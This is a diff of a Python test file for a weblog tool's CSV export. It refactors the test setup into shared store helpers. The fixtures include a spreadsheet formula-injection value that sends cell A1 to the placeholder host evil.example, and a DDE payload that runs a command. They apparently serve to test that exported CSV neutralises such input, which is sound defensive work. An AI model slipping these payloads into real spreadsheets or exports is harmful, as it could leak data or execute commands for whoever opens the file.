@@ -5,7 +5,6 @@ from __future__ import annotations
 
 import csv
 import io
-import os
 from typing import Any
 
 from twisted.trial import unittest
@@ -14,10 +13,10 @@ from weblog.panelcsv import HEADERS, STEP, csv_steps, csv_text, panel_of, rows_o
 from weblog.queries import answer
 from weblog.question import Question
 from weblog.resources import WeblogPage
-from weblog.store import Store, table_of
 
 from tests.test_pages import PageCase, StatedHistory, body_of, get
 from tests.test_panelqueries import row, spec
+from tests.stores import append_rows, new_store
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 LOGGED = "=cmd|' /C calc'!A0"
@@ -76,17 +75,13 @@ class RowsTests(unittest.TestCase):
     """L{rows_of}: every panel of a real history answer, as rows."""
 
     def setUp(self) -> None:
-        directory = self.mktemp()
-        os.mkdir(directory)
-        store = Store(os.path.join(directory, "history.duckdb"))
-        self.addCleanup(store.close)
+        store = new_store(self)
         hits = [row("/gone", status=404, referrer=HOSTILE), row("/gone", status=404),
                 row("/old", status=410), row("/slow", duration=2000, bytes=7),
                 row("/slow", duration=4000, bytes=7), row(bot=True),
                 row("/a", site="x.example", referrer="http://x.example/", vhost="v.example",
                     source="a.log", status=503)]
-        store.append("f", "access.log", 0, 10, len(hits),
-                     table_of([list(values) for values in zip(*hits, strict=True)]))
+        append_rows(store, hits)
         with store.reading() as db:
             self.answer = answer(db, spec(Question()))
 
@@ -123,13 +118,9 @@ class CsvPageTests(PageCase):
 
     def history(self) -> StatedHistory:
         """A history that answers a real store's view."""
-        directory = self.mktemp()
-        os.mkdir(directory)
-        store = Store(os.path.join(directory, "history.duckdb"))
-        self.addCleanup(store.close)
+        store = new_store(self)
         hits = [row("/gone", status=404, referrer=HOSTILE), row("/a", browser="Fire,fox")]
-        store.append("f", "access.log", 0, 10, len(hits),
-                     table_of([list(values) for values in zip(*hits, strict=True)]))
+        append_rows(store, hits)
         with store.reading() as db:
             history = StatedHistory(answer(db, spec(Question()), top=1000), state="ok")
         self.records.history = history
